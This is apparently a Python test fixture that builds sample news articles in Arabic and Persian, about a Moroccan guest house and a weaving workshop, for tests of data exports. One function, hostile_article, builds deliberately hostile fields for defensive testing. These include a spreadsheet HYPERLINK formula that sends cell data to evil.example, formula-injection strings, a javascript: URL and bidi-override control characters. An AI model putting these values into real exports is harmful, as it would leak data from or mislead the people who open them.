"""Articles of which tests of the exports make directories: plain ones, and some that attack who reads an export."""

from saying import Saying

URL = "https://example.org/news/1"
LETTERS = "ا" * 10_000
# What could be run by a spreadsheet, break XML, turn a line around, or be no address.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"انقر")'
CONTROLS = "دار\x0bالأمل\x1f \ufffe\u202eقلب\u202c <b>&amp;"


def arabic() -> Saying:
    saying = Saying(
        "one",
        "وقعت جمعية نور مع بلدية صفرو اتفاقية سنة 2021. وافتتحت جمعية نور بصفرو دار الضيافة التي تتسع لثلاثين سريرا. "
        "واستفاد منها 400 مريض.",
        "دار ضيافة بصفرو",
        url=URL,
        source="صحيفة الصباح",
        published="2021-05-03T08:00:00Z",
    )
    names = {"en": "Sefrou", "ar": "صفرو", "fa": "صفرو"}
    saying.organization("جمعية نور", place="صفرو").organization("بلدية صفرو", kind="government")
    saying.capacity("لثلاثين سريرا", 30, "bed", bound="at_least", unit_text="سرير", program="دار الضيافة")
    saying.capacity("400 مريض", 400, "patient", kind="served", unit_text="مريض", program="دار الضيافة")
    saying.place("صفرو", kind="town", country="MA", subdivision="MA-05", names=names)
    saying.date("2021", "2021", role="opened", program="دار الضيافة")
    saying.partnership("جمعية نور", "بلدية صفرو", quote="وقعت جمعية نور مع بلدية صفرو اتفاقية سنة 2021", date="2021")
    return saying.program(
        "دار الضيافة",
        operators=["جمعية نور"],
        partners=["بلدية صفرو"],
        places=["صفرو"],
        start="2021-05",
        beneficiaries=["المرضى", "مرافقوهم"],
        capacities=[0, 1],
    )


def persian() -> Saying:
    saying = Saying(
        "two",
        "بنیاد مهر در یزد و هرات کارگاه بافندگی را از ۱۳۹۸ تا ۱۴۰۰ برگزار کرد.",
        "کارگاه بافندگی",
        language="fa",
        source="روزنامه",
        published="2022-01-09",
    )
    saying.organization("بنیاد مهر", kind="foundation")
    saying.place("یزد", kind="town", country="IR", subdivision="IR-21", names={"en": "Yazd", "fa": "یزد"})
    saying.place("هرات", kind="town", country="AF", names={"en": "Herat", "ar": "هراة", "fa": "هرات"})
    return saying.program(
        "کارگاه بافندگی",
        kind="training",
        operators=["بنیاد مهر"],
        places=["یزد", "هرات"],
        start="2019-03-21/2020-03-19",
        end="2021-03-20",
    )


def undated() -> Saying:
    saying = Saying("three", "تقدم لجنة حينا حصة للأطفال", "", source=None)
    return saying.program("حصة للأطفال", kind="education")


def hostile_article() -> Saying:
    text = f"{FORMULA} في {CONTROLS} مع {LETTERS} و +212600 و @SUM(A1)"
    saying = Saying("=1+1", text, "-2+3 عنوان", source="@outlet", url="javascript:alert(1)", published="2020-02-30")
    saying.organization(FORMULA).organization(LETTERS).organization("@SUM(A1)")
    saying.partnership(FORMULA, LETTERS, quote=CONTROLS)
    return saying.program(CONTROLS, operators=[FORMULA], partners=[LETTERS], beneficiaries=["+212600"])
